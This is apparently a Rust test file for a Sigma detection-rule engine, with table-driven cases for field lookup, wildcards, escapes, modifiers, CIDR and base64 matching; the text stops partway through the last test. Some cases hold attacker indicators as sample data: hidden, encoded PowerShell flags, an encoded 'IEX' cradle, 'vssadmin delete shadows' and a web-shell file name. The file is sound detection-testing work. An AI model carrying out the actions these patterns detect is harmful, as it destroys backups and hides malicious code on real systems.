//! Rule matching, family by family: each test is a table of `(rule, event, expected)` cases,
//! positive and negative, evaluated with [`warden_sigma::check`].

use crate::dedent;

use warden_sigma::check;

/// Evaluates every case of a table and fails listing each case (index, rule, event, outcome)
/// that does not give the expected verdict; an error or a panic counts as a failure. Rule text
/// may be indented as a whole: the common indentation is removed and a `title` line is added.
fn run_table<R: AsRef<str>, E: AsRef<str>>(family: &str, cases: &[(R, E, bool)]) {
    let mut failures = Vec::new();
    for (i, (rule, event, expected)) in cases.iter().enumerate() {
        let rule_text: &str = rule.as_ref();
        let rule = format!("title: {family} case {i}\n{}", dedent(rule_text));
        let event: &str = event.as_ref();
        let got = match std::panic::catch_unwind(|| check(&rule, event)) {
            Ok(Ok(matched)) if matched == *expected => continue,
            Ok(Ok(matched)) => format!("matched = {matched}"),
            Ok(Err(e)) => format!("error: {e}"),
            Err(_) => "a panic".to_owned(),
        };
        failures.push(format!(
            "case {i}: expected matched = {expected}, got {got}\n--- rule\n{rule}--- event\n{event}\n"
        ));
    }
    assert!(
        failures.is_empty(),
        "{family}: {} of {} cases failed\n\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// A rule whose only selection is the single line `key: value` (`value` in YAML syntax).
fn sel(key: &str, value: &str) -> String {
    format!("detection:\n    selection:\n        {key}: {value}\n    condition: selection\n")
}

/// An event with a single `CommandLine` field (`value` must not need JSON escaping).
fn command_line(value: &str) -> String {
    format!(r#"{{"CommandLine": "{value}"}}"#)
}

/// Standard base64 with padding, written out here so that expected encodings do not come from
/// the engine's own dependencies.
fn b64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | (u32::from(b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

#[test]
fn test_encoders_agree_with_published_values() {
    assert_eq!(b64(b""), "");
    assert_eq!(b64(b"p"), "cA==");
    assert_eq!(b64(b"ping"), "cGluZw==");
    assert_eq!(b64(b"spinstall0.aspx"), "c3BpbnN0YWxsMC5hc3B4");
    assert_eq!(utf16le("cmd"), [0x63, 0, 0x6d, 0, 0x64, 0]);
    assert_eq!(utf16be("cmd"), [0, 0x63, 0, 0x6d, 0, 0x64]);
    // The three alignments of UTF-16LE `IEX ([` listed in SigmaHQ's encoded-IEX rule.
    assert!(b64(&utf16le("IEX ([Net")).contains("SQBFAFgAIAAoAFsA"));
    assert!(b64(&utf16le(" IEX ([Net")).contains("JAEUAWAAgACgAWw"));
    assert!(b64(&utf16le("  IEX ([Net")).contains("kARQBYACAAKABbA"));
}

#[test]
fn fields_are_found_by_leaf_name_dotted_path_and_evtx_attribute() {
    let image = sel("Image", r"'C:\Windows\System32\cmd.exe'");
    let dotted = sel("process.command_line|contains", "'whoami'");
    let leaf = sel("command_line|contains", "'whoami'");
    let name = sel("Name", "'b'");
    let provider = sel("Provider_Name", "'Microsoft-Windows-Sysmon'");
    let event_id = sel("EventID", "4688");
    let qualifiers = sel("EventID_Qualifiers", "16384");
    run_table(
        "field lookup",
        &[
            (
                &image,
                r#"{"Image": "C:\\Windows\\System32\\cmd.exe"}"#,
                true,
            ),
            (
                &image,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\cmd.exe"}}}"#,
                true,
            ),
            (
                &image,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\calc.exe"}}}"#,
                false,
            ),
            // Only a key named exactly `Image` is the field.
            (
                &image,
                r#"{"ParentImage": "C:\\Windows\\System32\\cmd.exe"}"#,
                false,
            ),
            (
                &image,
                r#"{"ImageLoaded": "C:\\Windows\\System32\\cmd.exe"}"#,
                false,
            ),
            (&image, "{}", false),
            (&image, r#"{"Image": null}"#, false),
            (
                &image,
                r#"{"Image": {"Path": "C:\\Windows\\System32\\cmd.exe"}}"#,
                false,
            ),
            (
                &dotted,
                r#"{"process": {"command_line": "cmd.exe /c whoami"}}"#,
                true,
            ),
            (&dotted, r#"{"process.command_line": "whoami /all"}"#, true),
            (&dotted, r#"{"process": {"name": "whoami.exe"}}"#, false),
            (&dotted, r#"{"parent": {"command_line": "whoami"}}"#, false),
            (
                &leaf,
                r#"{"process": {"command_line": "cmd.exe /c whoami"}}"#,
                true,
            ),
            (&leaf, r#"{"process": {"args": "whoami"}}"#, false),
            // Any key with the name, at any depth.
            (&name, r#"{"a": {"Name": "x"}, "b": {"Name": "b"}}"#, true),
            (&name, r#"{"a": {"Name": "x"}, "b": {"Name": "y"}}"#, false),
            (
                &provider,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}}}}}"##,
                true,
            ),
            (
                &provider,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}}}}"##,
                false,
            ),
            (
                &provider,
                r#"{"Provider_Name": "Microsoft-Windows-Sysmon"}"#,
                true,
            ),
            (
                &event_id,
                r##"{"Event": {"System": {"EventID": {"#text": 4688, "#attributes": {"Qualifiers": 16384}}}}}"##,
                true,
            ),
            (
                &event_id,
                r##"{"Event": {"System": {"EventID": {"#text": "4688"}}}}"##,
                true,
            ),
            (
                &event_id,
                r##"{"Event": {"System": {"EventID": {"#text": 4689, "#attributes": {"Qualifiers": 16384}}}}}"##,
                false,
            ),
            (
                &qualifiers,
                r##"{"Event": {"System": {"EventID": {"#text": 4688, "#attributes": {"Qualifiers": 16384}}}}}"##,
                true,
            ),
            (
                &qualifiers,
                r##"{"Event": {"System": {"EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}}}}}"##,
                false,
            ),
        ],
    );
}

#[test]
fn numbers_match_their_decimal_text_and_any_array_element_counts() {
    let number = sel("EventID", "4688");
    let quoted = sel("EventID", "'4688'");
    let negative = sel("Code", "-1");
    let hex = sel("Status", "'0xC000006D'");
    let tag = sel("Tags", "'admin'");
    let tag_part = sel("Tags|contains", "'admin'");
    let port = sel("Ports", "445");
    let item = sel("Name", "'b'");
    let listed = sel("EventID", "[4624, 4625, '4634']");
    run_table(
        "numbers and arrays",
        &[
            (&number, r#"{"EventID": 4688}"#, true),
            (&number, r#"{"EventID": "4688"}"#, true),
            (&number, r#"{"EventID": 46880}"#, false),
            (&number, r#"{"EventID": 468}"#, false),
            (&number, r#"{"EventID": "4688 "}"#, false),
            (&quoted, r#"{"EventID": 4688}"#, true),
            (&quoted, r#"{"EventID": 4689}"#, false),
            (&negative, r#"{"Code": -1}"#, true),
            (&negative, r#"{"Code": 1}"#, false),
            (&hex, r#"{"Status": "0xc000006d"}"#, true),
            (&hex, r#"{"Status": "0xC000006A"}"#, false),
            (&tag, r#"{"Tags": ["user", "admin"]}"#, true),
            (&tag, r#"{"Tags": ["user", "administrator"]}"#, false),
            (&tag, r#"{"Tags": []}"#, false),
            (&tag_part, r#"{"Tags": ["user", "administrator"]}"#, true),
            (&tag_part, r#"{"Tags": ["user", "guest"]}"#, false),
            (&port, r#"{"Ports": [139, 445]}"#, true),
            (&port, r#"{"Ports": [139, 4450]}"#, false),
            (&item, r#"{"Items": [{"Name": "a"}, {"Name": "b"}]}"#, true),
            (&item, r#"{"Items": [{"Name": "a"}, {"Name": "c"}]}"#, false),
            (&listed, r#"{"EventID": 4625}"#, true),
            (&listed, r#"{"EventID": "4634"}"#, true),
            (&listed, r#"{"EventID": 4634}"#, true),
            (&listed, r#"{"EventID": 4672}"#, false),
        ],
    );
}

#[test]
fn plain_values_match_the_whole_value_case_insensitively() {
    let user = sel("User", "'admin'");
    let spaced = sel("User", "' admin'");
    let path = sel("Image", r"'C:\Windows\System32\CMD.EXE'");
    let umlaut = sel("Name", "'ÄRGER'");
    let cyrillic = sel("Name", "'Документ'");
    let sharp_s = sel("Name", "'ß'");
    let dotted_i = sel("Name", "'İ'");
    let dotted_i_prefix = sel("Name|startswith", "'İs'");
    let after_dotted_i = sel("Name|endswith", "'CMD.EXE'");
    let kanji = sel("Group|contains", "'管理者'");
    let quote = sel("Message|contains", "'it''s'");
    let dot = sel("Name", "'a.b'");
    let regex_chars = sel("Name", "'(x)+[y]'");
    let anchors = sel("Name", "'^start$'");
    let pipe = sel("Name", "'a|b'");
    let percent = sel("Name", "'%Administrators%'");
    run_table(
        "plain values",
        &[
            (&user, r#"{"User": "admin"}"#, true),
            (&user, r#"{"User": "ADMIN"}"#, true),
            (&user, r#"{"User": "administrator"}"#, false),
            (&user, r#"{"User": "sysadmin"}"#, false),
            (&user, r#"{"User": " admin"}"#, false),
            (&spaced, r#"{"User": " admin"}"#, true),
            (&spaced, r#"{"User": "admin"}"#, false),
            (
                &path,
                r#"{"Image": "c:\\windows\\system32\\cmd.exe"}"#,
                true,
            ),
            (
                &path,
                r#"{"Image": "c:\\windows\\system32\\cmd.exe.bak"}"#,
                false,
            ),
            (&umlaut, r#"{"Name": "ärger"}"#, true),
            (&umlaut, r#"{"Name": "arger"}"#, false),
            (&cyrillic, r#"{"Name": "ДОКУМЕНТ"}"#, true),
            (&cyrillic, r#"{"Name": "Документы"}"#, false),
            (&sharp_s, r#"{"Name": "ß"}"#, true),
            (&sharp_s, r#"{"Name": "ss"}"#, false),
            (&sharp_s, r#"{"Name": "s"}"#, false),
            (&dotted_i, r#"{"Name": "İ"}"#, true),
            (&dotted_i, r#"{"Name": "X"}"#, false),
            (&dotted_i_prefix, r#"{"Name": "İSTANBUL"}"#, true),
            (&dotted_i_prefix, r#"{"Name": "İZMIR"}"#, false),
            // Characters whose lower case is longer than themselves come before the match.
            (&after_dotted_i, r#"{"Name": "İİİ\\cmd.exe"}"#, true),
            (&after_dotted_i, r#"{"Name": "İİİ\\cmd.ex"}"#, false),
            (&kanji, r#"{"Group": "ローカル管理者グループ"}"#, true),
            (&kanji, r#"{"Group": "ローカル管理グループ"}"#, false),
            (&quote, r#"{"Message": "it's here"}"#, true),
            (&quote, r#"{"Message": "its here"}"#, false),
            // Regular-expression characters in plain values are literal.
            (&dot, r#"{"Name": "a.b"}"#, true),
            (&dot, r#"{"Name": "axb"}"#, false),
            (&regex_chars, r#"{"Name": "(x)+[y]"}"#, true),
            (&regex_chars, r#"{"Name": "xxy"}"#, false),
            (&anchors, r#"{"Name": "^start$"}"#, true),
            (&anchors, r#"{"Name": "start"}"#, false),
            (&pipe, r#"{"Name": "a|b"}"#, true),
            (&pipe, r#"{"Name": "a"}"#, false),
            // Without `expand` a placeholder is a literal value.
            (&percent, r#"{"Name": "%Administrators%"}"#, true),
            (&percent, r#"{"Name": "Administrators"}"#, false),
        ],
    );
}

#[test]
fn empty_value_matches_empty_string_or_null() {
    let empty = sel("Field", "''");
    run_table(
        "empty value",
        &[
            (&empty, r#"{"Field": ""}"#, true),
            (&empty, r#"{"Field": null}"#, true),
            (&empty, r#"{"Event": {"EventData": {"Field": ""}}}"#, true),
            (&empty, r#"{"Field": "x"}"#, false),
            (&empty, r#"{"Field": " "}"#, false),
            (&empty, r#"{"Field": 0}"#, false),
            (&empty, "{}", false),
        ],
    );
}

#[test]
fn cased_matches_case_sensitively() {
    let exact = sel("Image|cased", r"'C:\Windows\System32\cmd.exe'");
    let part = sel("CommandLine|contains|cased", "'Invoke-'");
    let glob = sel("Name|cased", "'Power*'");
    let end = sel("Name|endswith|cased", "'.EXE'");
    let umlaut = sel("Name|cased", "'ärger'");
    run_table(
        "cased",
        &[
            (
                &exact,
                r#"{"Image": "C:\\Windows\\System32\\cmd.exe"}"#,
                true,
            ),
            (
                &exact,
                r#"{"Image": "c:\\windows\\system32\\cmd.exe"}"#,
                false,
            ),
            (
                &part,
                r#"{"CommandLine": "powershell Invoke-Expression $x"}"#,
                true,
            ),
            (
                &part,
                r#"{"CommandLine": "powershell invoke-expression $x"}"#,
                false,
            ),
            (&glob, r#"{"Name": "PowerShell"}"#, true),
            (&glob, r#"{"Name": "powershell"}"#, false),
            (&end, r#"{"Name": "A.EXE"}"#, true),
            (&end, r#"{"Name": "A.exe"}"#, false),
            (&umlaut, r#"{"Name": "ärger"}"#, true),
            (&umlaut, r#"{"Name": "ÄRGER"}"#, false),
        ],
    );
}

#[test]
fn wildcards_star_and_question_mark() {
    let one = sel("Name", "'prog?.exe'");
    let many = sel("Name", "'antivirus_V*.exe'");
    let anything = sel("Name", "'*'");
    let accented = sel("Name", "'caf?'");
    let path = sel("Image", r"'*\CMD.exe'");
    let inner = sel("CommandLine", "'*-enc*'");
    let doubled = sel("Name", "'a**b'");
    run_table(
        "wildcards",
        &[
            (&one, r#"{"Name": "progA.exe"}"#, true),
            (&one, r#"{"Name": "PROGa.EXE"}"#, true),
            (&one, r#"{"Name": "prog.exe"}"#, false),
            (&one, r#"{"Name": "progAB.exe"}"#, false),
            (&many, r#"{"Name": "antivirus_V21.2.1.exe"}"#, true),
            (&many, r#"{"Name": "antivirus_V.exe"}"#, true),
            (&many, r#"{"Name": "antivirus_V1.dll"}"#, false),
            (&many, r#"{"Name": "my_antivirus_V1.exe"}"#, false),
            (&anything, r#"{"Name": "x"}"#, true),
            (&anything, r#"{"Name": ""}"#, true),
            (&anything, "{}", false),
            // `?` is one character, not one byte.
            (&accented, r#"{"Name": "café"}"#, true),
            (&accented, r#"{"Name": "cafe"}"#, true),
            (&accented, r#"{"Name": "caf"}"#, false),
            (&accented, r#"{"Name": "cafés"}"#, false),
            (
                &path,
                r#"{"Image": "c:\\windows\\system32\\cmd.exe"}"#,
                true,
            ),
            (
                &path,
                r#"{"Image": "c:\\windows\\system32\\cmd.exe.bak"}"#,
                false,
            ),
            (
                &path,
                r#"{"Image": "c:\\windows\\system32\\xcmd.exe"}"#,
                false,
            ),
            (&inner, r#"{"CommandLine": "powershell -enc AAAA"}"#, true),
            (&inner, r#"{"CommandLine": "powershell -e AAAA"}"#, false),
            (&doubled, r#"{"Name": "ab"}"#, true),
            (&doubled, r#"{"Name": "a-b"}"#, true),
            (&doubled, r#"{"Name": "ba"}"#, false),
        ],
    );
}

#[test]
fn backslash_escapes_follow_the_specification() {
    // In YAML single quotes a backslash is an ordinary character: each rule value below is the
    // Sigma text between the quotes. In the JSON events `\\` is one backslash.
    let single = sel("Value", r"'C:\Windows\System32\cmd.exe'");
    let doubled = sel("Value", r"'C:\\Windows\\System32\\cmd.exe'");
    let four = sel("Value", r"'a\\\\b'");
    let three = sel("Value", r"'a\\\b'");
    let star = sel("Value", r"'foo\*bar'");
    let question = sel("Value", r"'what\?'");
    let dir_then_any = sel("Value", r"'C:\\*'");
    let drive_star = sel("Value", r"'C:\*'");
    let slash_star = sel("Value", r"'a\\\*'");
    let two_then_any = sel("Value", r"'x\\\\*'");
    let trailing = sel("Value", r"'C:\'");
    let downloads = sel("Value|contains", r"'\Users\\*\Downloads\'");
    let star_exe = sel("Value|endswith", r"'\\\*.exe'");
    let temp = sel("Value|contains", r"'\Temp\'");
    // In YAML double quotes, YAML reads `\\` as one backslash before Sigma sees the value.
    let double_quoted = sel("Value|endswith", r#""\\cmd.exe""#);
    run_table(
        "escapes",
        &[
            (
                &single,
                r#"{"Value": "C:\\Windows\\System32\\cmd.exe"}"#,
                true,
            ),
            (
                &single,
                r#"{"Value": "C:\\Windows\\System32\\cmd.exe.exe"}"#,
                false,
            ),
            // A doubled backslash before a plain character is one backslash.
            (
                &doubled,
                r#"{"Value": "C:\\Windows\\System32\\cmd.exe"}"#,
                true,
            ),
            (
                &doubled,
                r#"{"Value": "C:\\\\Windows\\\\System32\\\\cmd.exe"}"#,
                false,
            ),
            // Four (or three) backslashes are two.
            (&four, r#"{"Value": "a\\\\b"}"#, true),
            (&four, r#"{"Value": "a\\b"}"#, false),
            (&three, r#"{"Value": "a\\\\b"}"#, true),
            (&three, r#"{"Value": "a\\b"}"#, false),
            // An escaped wildcard is a literal character.
            (&star, r#"{"Value": "foo*bar"}"#, true),
            (&star, r#"{"Value": "fooXbar"}"#, false),
            (&star, r#"{"Value": "foo\\*bar"}"#, false),
            (&question, r#"{"Value": "what?"}"#, true),
            (&question, r#"{"Value": "whatX"}"#, false),
            // `\\*` is a backslash followed by a wildcard.
            (&dir_then_any, r#"{"Value": "C:\\Windows"}"#, true),
            (&dir_then_any, r#"{"Value": "C:\\"}"#, true),
            (&dir_then_any, r#"{"Value": "C:Windows"}"#, false),
            (&drive_star, r#"{"Value": "C:*"}"#, true),
            (&drive_star, r#"{"Value": "C:\\Windows"}"#, false),
            (&drive_star, r#"{"Value": "C:\\*"}"#, false),
            // `\\\*` is a backslash followed by a literal star.
            (&slash_star, r#"{"Value": "a\\*"}"#, true),
            (&slash_star, r#"{"Value": "a\\b"}"#, false),
            (&slash_star, r#"{"Value": "a*"}"#, false),
            // `\\\\*` is two backslashes followed by a wildcard.
            (&two_then_any, r#"{"Value": "x\\\\abc"}"#, true),
            (&two_then_any, r#"{"Value": "x\\abc"}"#, false),
            (&trailing, r#"{"Value": "C:\\"}"#, true),
            (&trailing, r#"{"Value": "C:"}"#, false),
            (
                &downloads,
                r#"{"Value": "C:\\Users\\bob\\Downloads\\setup.exe"}"#,
                true,
            ),
            (
                &downloads,
                r#"{"Value": "C:\\Users\\bob\\Desktop\\setup.exe"}"#,
                false,
            ),
            (&star_exe, r#"{"Value": "C:\\dir\\*.exe"}"#, true),
            (&star_exe, r#"{"Value": "C:\\dir\\a.exe"}"#, false),
            (
                &temp,
                r#"{"Value": "C:\\Users\\a\\AppData\\Local\\Temp\\x.exe"}"#,
                true,
            ),
            (&temp, r#"{"Value": "C:\\Temp"}"#, false),
            (&double_quoted, r#"{"Value": "C:\\Windows\\cmd.exe"}"#, true),
            (
                &double_quoted,
                r#"{"Value": "C:\\Windows\\xcmd.exe"}"#,
                false,
            ),
        ],
    );
}

#[test]
fn contains_startswith_endswith() {
    let contains = sel("CommandLine|contains", "'whoami'");
    let starts = sel("Image|startswith", r"'C:\Users\'");
    let ends = sel("Image|endswith", "'.exe'");
    let whole = sel("Image|endswith", "'cmd.exe'");
    let either = sel("Image|endswith", r"['\powershell.exe', '\pwsh.exe']");
    let glob_inside = sel("CommandLine|contains", "'powershell*-enc'");
    let one_inside = sel("CommandLine|contains", "'vssadm?n'");
    let empty = sel("CommandLine|contains", "''");
    let number = sel("EventID|startswith", "'46'");
    run_table(
        "contains/startswith/endswith",
        &[
            (
                &contains,
                r#"{"CommandLine": "cmd.exe /c WHOAMI /all"}"#,
                true,
            ),
            (&contains, r#"{"CommandLine": "whoami"}"#, true),
            (&contains, r#"{"CommandLine": "who ami"}"#, false),
            (&contains, r#"{"CommandLine": null}"#, false),
            (&contains, "{}", false),
            (&starts, r#"{"Image": "c:\\users\\bob\\a.exe"}"#, true),
            (&starts, r#"{"Image": "D:\\C:\\Users\\a.exe"}"#, false),
            (&ends, r#"{"Image": "a.EXE"}"#, true),
            (&ends, r#"{"Image": "a.exe.txt"}"#, false),
            (&whole, r#"{"Image": "cmd.exe"}"#, true),
            (&whole, r#"{"Image": "md.exe"}"#, false),
            (
                &either,
                r#"{"Image": "C:\\Program Files\\PowerShell\\7\\pwsh.exe"}"#,
                true,
            ),
            (
                &either,
                r#"{"Image": "C:\\Windows\\System32\\cmd.exe"}"#,
                false,
            ),
            // Wildcards keep their meaning inside modified values.
            (
                &glob_inside,
                r#"{"CommandLine": "powershell.exe -nop -enc AAAA"}"#,
                true,
            ),
            (
                &glob_inside,
                r#"{"CommandLine": "-enc AAAA powershell.exe"}"#,
                false,
            ),
            (
                &one_inside,
                r#"{"CommandLine": "vssadmin delete shadows"}"#,
                true,
            ),
            (
                &one_inside,
                r#"{"CommandLine": "vssadmn delete shadows"}"#,
                false,
            ),
            (&empty, r#"{"CommandLine": "anything"}"#, true),
            (&empty, "{}", false),
            (&number, r#"{"EventID": 4688}"#, true),
            (&number, r#"{"EventID": 5688}"#, false),
        ],
    );
}

#[test]
fn all_joins_the_values_with_and() {
    let all = sel("CommandLine|contains|all", "['-nop', '-w hidden', '-enc']");
    let any = sel("CommandLine|contains", "['-nop', '-enc']");
    let tags = sel("Tags|all", "['a', 'b']");
    let scalar = sel("Name|all", "['x', 'y']");
    run_table(
        "all",
        &[
            (
                &all,
                r#"{"CommandLine": "powershell -NoP -W Hidden -Enc AAAA"}"#,
                true,
            ),
            (
                &all,
                r#"{"CommandLine": "powershell -NoP -Enc AAAA"}"#,
                false,
            ),
            (&all, r#"{"CommandLine": "powershell"}"#, false),
            (&any, r#"{"CommandLine": "powershell -enc AAAA"}"#, true),
            (&any, r#"{"CommandLine": "powershell -e AAAA"}"#, false),
            // Each value may be met by a different element of an array.
            (&tags, r#"{"Tags": ["a", "b", "c"]}"#, true),
            (&tags, r#"{"Tags": ["a", "c"]}"#, false),
            (&scalar, r#"{"Name": "x"}"#, false),
        ],
    );
}

#[test]
fn exists_checks_presence_only() {
    let present = sel("Field|exists", "true");
    let absent = sel("Field|exists", "false");
    let attribute = sel("Provider_Name|exists", "true");
    let spec_example = r"
        detection:
            selection:
                EventID: 4738
                PasswordLastSet|exists: true
            condition: selection
    ";
    run_table(
        "exists",
        &[
            (present.as_str(), r#"{"Field": "x"}"#, true),
            (present.as_str(), r#"{"Field": ""}"#, true),
            (present.as_str(), r#"{"Field": null}"#, true),
            (present.as_str(), r#"{"Field": 0}"#, true),
            (
                present.as_str(),
                r#"{"Event": {"EventData": {"Field": "x"}}}"#,
                true,
            ),
            (present.as_str(), r#"{"Other": "x"}"#, false),
            (present.as_str(), "{}", false),
            (absent.as_str(), "{}", true),
            (absent.as_str(), r#"{"Other": "Field"}"#, true),
            (absent.as_str(), r#"{"Field": "x"}"#, false),
            (absent.as_str(), r#"{"Field": null}"#, false),
            (
                attribute.as_str(),
                r##"{"System": {"Provider": {"#attributes": {"Name": "Sysmon"}}}}"##,
                true,
            ),
            (
                attribute.as_str(),
                r#"{"System": {"Provider": "Sysmon"}}"#,
                false,
            ),
            (
                spec_example,
                r#"{"EventID": 4738, "PasswordLastSet": "-"}"#,
                true,
            ),
            (spec_example, r#"{"EventID": 4738}"#, false),
            (
                spec_example,
                r#"{"EventID": 4724, "PasswordLastSet": "-"}"#,
                false,
            ),
        ],
    );
}

#[test]
fn null_matches_a_missing_field_or_json_null() {
    let null = sel("Field", "null");
    let spec_example = r"
        detection:
            selection:
                EventID: 4738
            filter:
                PasswordLastSet: null
            condition: selection and not filter
    ";
    run_table(
        "null",
        &[
            (null.as_str(), "{}", true),
            (null.as_str(), r#"{"Field": null}"#, true),
            (
                null.as_str(),
                r#"{"Event": {"EventData": {"Field": null}}}"#,
                true,
            ),
            (null.as_str(), r#"{"Field": ""}"#, false),
            (null.as_str(), r#"{"Field": "null"}"#, false),
            (null.as_str(), r#"{"Field": 0}"#, false),
            (
                spec_example,
                r#"{"EventID": 4738, "PasswordLastSet": "%%1794"}"#,
                true,
            ),
            (
                spec_example,
                r#"{"EventID": 4738, "PasswordLastSet": null}"#,
                false,
            ),
            (spec_example, r#"{"EventID": 4738}"#, false),
        ],
    );
}

#[test]
fn numeric_comparisons() {
    let gt = sel("Count|gt", "10");
    let gte = sel("Count|gte", "10");
    let lt = sel("Count|lt", "10");
    let lte = sel("Count|lte", "10");
    let fraction = sel("Score|gt", "1.5");
    let below_zero = sel("Delta|lt", "0");
    let large = sel("Bytes|gt", "4294967295");
    let ports = sel("Ports|gte", "8000");
    let range = r"
        detection:
            selection:
                Count|gt: 1
                Count|lt: 5
            condition: selection
    ";
    run_table(
        "numeric comparisons",
        &[
            (gt.as_str(), r#"{"Count": 11}"#, true),
            (gt.as_str(), r#"{"Count": 10.5}"#, true),
            (gt.as_str(), r#"{"Count": "11"}"#, true),
            (gt.as_str(), r#"{"Count": 10}"#, false),
            (gt.as_str(), r#"{"Count": "9"}"#, false),
            (gt.as_str(), r#"{"Count": "abc"}"#, false),
            (gt.as_str(), r#"{"Count": null}"#, false),
            (gt.as_str(), "{}", false),
            (gte.as_str(), r#"{"Count": 10}"#, true),
            (gte.as_str(), r#"{"Count": "10"}"#, true),
            (gte.as_str(), r#"{"Count": 9}"#, false),
            (lt.as_str(), r#"{"Count": 9}"#, true),
            (lt.as_str(), r#"{"Count": -5}"#, true),
            (lt.as_str(), r#"{"Count": 10}"#, false),
            (lte.as_str(), r#"{"Count": 10}"#, true),
            (lte.as_str(), r#"{"Count": 11}"#, false),
            (fraction.as_str(), r#"{"Score": 2}"#, true),
            (fraction.as_str(), r#"{"Score": 1.5}"#, false),
            (fraction.as_str(), r#"{"Score": 1}"#, false),
            (below_zero.as_str(), r#"{"Delta": -3}"#, true),
            (below_zero.as_str(), r#"{"Delta": 0}"#, false),
            (large.as_str(), r#"{"Bytes": 4294967296}"#, true),
            (large.as_str(), r#"{"Bytes": 4294967295}"#, false),
            (ports.as_str(), r#"{"Ports": [22, 8080]}"#, true),
            (ports.as_str(), r#"{"Ports": [22, 443]}"#, false),
            (range, r#"{"Count": 3}"#, true),
            (range, r#"{"Count": 7}"#, false),
            (range, r#"{"Count": 1}"#, false),
        ],
    );
}

#[test]
fn neq_is_true_when_the_value_differs_or_is_missing() {
    let user = sel("User|neq", "'admin'");
    let event_id = sel("EventID|neq", "4688");
    let either = sel("User|neq", "['admin', 'root']");
    let part = sel("CommandLine|contains|neq", "'whoami'");
    run_table(
        "neq",
        &[
            (&user, r#"{"User": "root"}"#, true),
            (&user, "{}", true),
            (&user, r#"{"User": "admin"}"#, false),
            (&user, r#"{"User": "ADMIN"}"#, false),
            (&event_id, r#"{"EventID": 4689}"#, true),
            (&event_id, r#"{"EventID": 4688}"#, false),
            (&event_id, r#"{"EventID": "4688"}"#, false),
            (&either, r#"{"User": "guest"}"#, true),
            (&either, r#"{"User": "root"}"#, false),
            (&either, r#"{"User": "admin"}"#, false),
            (&part, r#"{"CommandLine": "ipconfig /all"}"#, true),
            (&part, r#"{"CommandLine": "cmd /c whoami"}"#, false),
        ],
    );
}

#[test]
fn cidr_matches_ipv4_and_ipv6_networks() {
    let ten = sel("DestinationIp|cidr", "'10.0.0.0/8'");
    let either = sel("DestinationIp|cidr", "['127.0.0.0/8', '192.168.0.0/16']");
    let subnet = sel("DestinationIp|cidr", "'192.168.1.0/24'");
    let host = sel("DestinationIp|cidr", "'8.8.8.8/32'");
    let everything = sel("DestinationIp|cidr", "'0.0.0.0/0'");
    let link_local = sel("DestinationIp|cidr", "'fe80::/10'");
    let documentation = sel("DestinationIp|cidr", "'2001:db8::/32'");
    let loopback6 = sel("DestinationIp|cidr", "'::1/128'");
    run_table(
        "cidr",
        &[
            (&ten, r#"{"DestinationIp": "10.1.2.3"}"#, true),
            (&ten, r#"{"DestinationIp": "10.255.255.255"}"#, true),
            (&ten, r#"{"DestinationIp": "11.1.2.3"}"#, false),
            (&ten, r#"{"DestinationIp": "not an address"}"#, false),
            (&ten, r#"{"DestinationIp": "::1"}"#, false),
            (&ten, "{}", false),
            (&either, r#"{"DestinationIp": "192.168.10.1"}"#, true),
            (&either, r#"{"DestinationIp": "127.0.0.1"}"#, true),
            (&either, r#"{"DestinationIp": "172.16.0.1"}"#, false),
            (&subnet, r#"{"DestinationIp": "192.168.1.255"}"#, true),
            (&subnet, r#"{"DestinationIp": "192.168.2.0"}"#, false),
            (&host, r#"{"DestinationIp": "8.8.8.8"}"#, true),
            (&host, r#"{"DestinationIp": "8.8.8.9"}"#, false),
            (&everything, r#"{"DestinationIp": "203.0.113.7"}"#, true),
            (&link_local, r#"{"DestinationIp": "fe80::1"}"#, true),
            (&link_local, r#"{"DestinationIp": "FE80::ABCD"}"#, true),
            (&link_local, r#"{"DestinationIp": "febf::1"}"#, true),
            (&link_local, r#"{"DestinationIp": "fec0::1"}"#, false),
            (&link_local, r#"{"DestinationIp": "2001:db8::1"}"#, false),
            (
                &documentation,
                r#"{"DestinationIp": "2001:db8:1::5"}"#,
                true,
            ),
            (&documentation, r#"{"DestinationIp": "2001:db9::1"}"#, false),
            (&loopback6, r#"{"DestinationIp": "::1"}"#, true),
            (&loopback6, r#"{"DestinationIp": "::2"}"#, false),
        ],
    );
}

#[test]
fn base64_matches_the_encoded_value() {
    let exact = sel("CommandLine|base64", "'ping'");
    let contains = sel("CommandLine|base64|contains", "'spinstall0.aspx'");
    let encoded = |text: &[u8]| command_line(&format!("powershell -e {}", b64(text)));
    let cases = [
        (&exact, command_line("cGluZw=="), true),
        (&exact, command_line("cG9uZw=="), false),
        (&exact, command_line("ping"), false),
        (&exact, command_line("x cGluZw=="), false),
        (&contains, encoded(b"spinstall0.aspx?id=1"), true),
        // Without `offset` the value is only found at the start of a three-byte group.
        (&contains, encoded(b"/spinstall0.aspx"), false),
        (&contains, encoded(b"install0.aspx"), false),
    ];
    run_table("base64", &cases);
}

#[test]
fn base64offset_finds_the_value_at_every_alignment() {
    let ping = sel("CommandLine|base64offset|contains", "'ping'");
    let shifted = sel("CommandLine|base64offset|contains", "'spinstall0.aspx'");
    let iex = sel(
        "CommandLine|base64offset|contains",
        "['iex (New', 'IEX (New']",
    );
    let encoded = |text: &[u8]| command_line(&format!("sh -c {}", b64(text)));
    let mut cases = Vec::new();
    for k in 0..6 {
        let prefix = &"abcde"[..k];
        cases.push((
            &ping,
            encoded(format!("{prefix}ping 127.0.0.1").as_bytes()),
            true,
        ));
